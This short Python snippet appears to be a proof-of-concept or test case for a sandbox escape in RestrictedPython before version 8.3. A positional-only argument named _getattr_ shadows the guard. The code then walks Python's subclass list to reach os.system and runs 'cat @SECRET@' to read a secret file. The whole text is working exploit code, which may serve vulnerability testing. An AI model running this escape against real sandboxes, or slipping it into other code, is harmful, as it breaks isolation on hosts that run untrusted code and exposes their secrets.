# RestrictedPython before 8.3: a positional-only argument shadows the guard's own helper.
# effect: run
def walk(_getattr_, /, root=()):
    return root.__class__.__base__.__subclasses__()
kinds = walk(lambda thing, name: thing)
[k for k in kinds if k.__name__ == "_wrap_close"][0].__init__.__globals__["system"]("cat @SECRET@")
